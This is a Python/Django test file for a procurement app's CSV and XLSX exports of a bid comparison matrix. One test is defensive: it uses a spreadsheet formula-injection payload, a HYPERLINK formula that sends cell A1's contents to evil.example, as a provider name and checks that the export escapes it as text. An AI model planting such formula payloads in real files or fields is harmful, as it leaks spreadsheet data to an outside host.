"""CSV and XLSX carry the page's matrix: the same bids, rows and numbers."""

from __future__ import annotations

import csv
import io
import re
from html import unescape

from django.urls import reverse
from openpyxl import load_workbook

from evaluation.comparison import comparison_for_buyer
from tests.evaluation.pages.conftest import score


def _page_numbers(html: str) -> dict[tuple[str, int], str]:
    """(row key, column index) -> the number as displayed on the page."""
    out: dict[tuple[str, int], str] = {}
    for key, body in re.findall(r'<tr data-row="([a-z_]+)">(.*?)</tr>', html, re.S):
        cells = re.findall(r"<td[^>]*>(.*?)</td>", body, re.S)
        for index, cell in enumerate(cells):
            summary = re.search(r"<summary>([^<]*)", cell)
            text = unescape((summary.group(1) if summary else cell).strip())
            if re.fullmatch(r"-?[\d,]+(\.\d+)?%?", text):
                out[(key, index)] = text.rstrip("%")
    return out


def _as_number(text: str) -> float:
    return float(text.replace(",", ""))


def test_csv_and_xlsx_hold_the_numbers_the_page_shows(scored, buyer):
    client = buyer.client()
    req = scored.request
    html = client.get(reverse("evaluation:request-compare", args=[req.pk])).content.decode()
    shown = _page_numbers(html)
    assert len(shown) > 40

    csv_response = client.get(reverse("evaluation:request-compare-csv", args=[req.pk]))
    assert csv_response["Content-Type"].startswith("text/csv")
    assert "attachment" in csv_response["Content-Disposition"]
    lines = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))

    xlsx_response = client.get(reverse("evaluation:request-compare-xlsx", args=[req.pk]))
    sheet = load_workbook(io.BytesIO(xlsx_response.content))["Comparison"]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]

    view = comparison_for_buyer(capacity_request=req)
    assert lines[0][3:] == [c.name for c in view.columns] == list(rows[0][3:])
    keys = [row.key for group in view.groups for row in group.rows]
    data_csv, data_xlsx = lines[3:], rows[3:]
    assert len(data_csv) == len(data_xlsx) == len(keys)
    compared = 0
    for key, line, xrow in zip(keys, data_csv, data_xlsx, strict=True):
        for index in range(len(view.columns)):
            if (key, index) not in shown:
                continue
            page_value = _as_number(shown[(key, index)])
            assert float(line[3 + index]) == page_value, (key, index)
            assert float(xrow[3 + index]) == page_value, (key, index)
            compared += 1
    assert compared == len(shown)


def test_the_export_sets_disqualified_bids_apart_with_their_reasons(scored, buyer):
    scored.request.acceptable_regions = ["nordics"]
    scored.request.save()
    score(scored.request)
    response = buyer.client().get(
        reverse("evaluation:request-compare-csv", args=[scored.request.pk])
    )
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert lines[1][1] == "Scores" and set(lines[1][3:]) == {"current"}
    assert lines[2][1] == "Hard requirements"
    assert all(v.startswith("disqualified: region eu") for v in lines[2][3:])


def test_anonymised_export_names_no_provider(scored, buyer):
    url = reverse("evaluation:request-compare-xlsx", args=[scored.request.pk]) + "?labels=anonymous"
    sheet = load_workbook(io.BytesIO(buyer.client().get(url).content))["Comparison"]
    header = [c.value for c in sheet[1]]
    assert header[3:] == ["Bid A", "Bid B"]
    text = " ".join(str(c.value) for row in sheet.iter_rows() for c in row)
    assert "Northwind" not in text and "Rival Cloud" not in text


def test_csv_and_page_name_a_link_rate_in_the_one_unit(scored, buyer):
    from engine.formatting import LINK_RATE_UNIT

    client = buyer.client()
    req = scored.request
    html = client.get(reverse("evaluation:request-compare", args=[req.pk])).content.decode()
    response = client.get(reverse("evaluation:request-compare-csv", args=[req.pk]))
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    units = {line[1]: line[2] for line in lines[3:]}
    assert units["Backend bandwidth per GPU"] == LINK_RATE_UNIT == "Gb/s"
    assert f"({LINK_RATE_UNIT})" in html


def test_text_that_looks_like_a_formula_is_exported_as_text(scored, buyer, provider):
    # A provider chooses its own name; in the buyer's spreadsheet it must never run.
    provider.org.name = '=HYPERLINK("http://evil.example/?"&A1,"Docs")'
    provider.org.save()
    client = buyer.client()
    req = scored.request
    raw = client.get(reverse("evaluation:request-compare-csv", args=[req.pk]))
    header = next(csv.reader(io.StringIO(raw.content.decode("utf-8-sig"))))
    assert provider.org.name not in header
    assert "'" + provider.org.name in header
    xlsx = client.get(reverse("evaluation:request-compare-xlsx", args=[req.pk]))
    sheet = load_workbook(io.BytesIO(xlsx.content))["Comparison"]
    cells = [c for c in sheet[1] if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
    # Numbers stay numbers (a negative one is not text).
    numbers = [c.value for row in sheet.iter_rows(min_row=4) for c in row[3:]]
    assert any(isinstance(v, int | float) for v in numbers)
    assert not any(isinstance(v, str) and v.startswith("'") for v in numbers)


def test_the_xlsx_cover_and_explanations_give_a_signatory_the_context(scored, buyer):
    """Read back with openpyxl: the cover names the request, deadline, scoring time, weights and
    ranking; the explanation sheet gives each number's formula; the matrix header is frozen."""
    req = scored.request
    url = reverse("evaluation:request-compare-xlsx", args=[req.pk])
    book = load_workbook(io.BytesIO(buyer.client().get(url).content))
    assert book.sheetnames == ["Cover", "Comparison", "Explanations"]
    cover = {row[0]: row[1] for row in book["Cover"].iter_rows(values_only=True) if row[0]}
    view = comparison_for_buyer(capacity_request=req)
    assert cover["Request"] == req.title and cover["Buyer"] == req.buyer.name
    assert cover["Bid deadline"] == f"{req.bid_deadline:%Y-%m-%d %H:%M} UTC"
    assert cover["Scored at"].endswith(" UTC") and cover["Scores"] == "current"
    assert cover["Effective cost"].endswith(" %")  # a weight, as a share of the whole
    ranked = [c for c in view.columns if c.score.rank == 1]
    assert ranked and cover[1] == ranked[0].name
    explained = list(book["Explanations"].iter_rows(values_only=True))
    assert explained[0] == ("Bid", "Row", "Step", "Formula", "Value")
    assert any("×" in str(row[3]) or "/" in str(row[3]) for row in explained[1:])
    assert {row[0] for row in explained[1:]} == {c.name for c in view.columns}
    assert book["Comparison"].freeze_panes == "D2"
    verdict = [r[0] for r in book["Cover"].iter_rows(values_only=True) if r[0]]
    line = verdict[verdict.index("The winner's verdict") + 1]
    assert line.startswith(f"{view.sensitivity['winner']}: ") and "random weight draws" in line
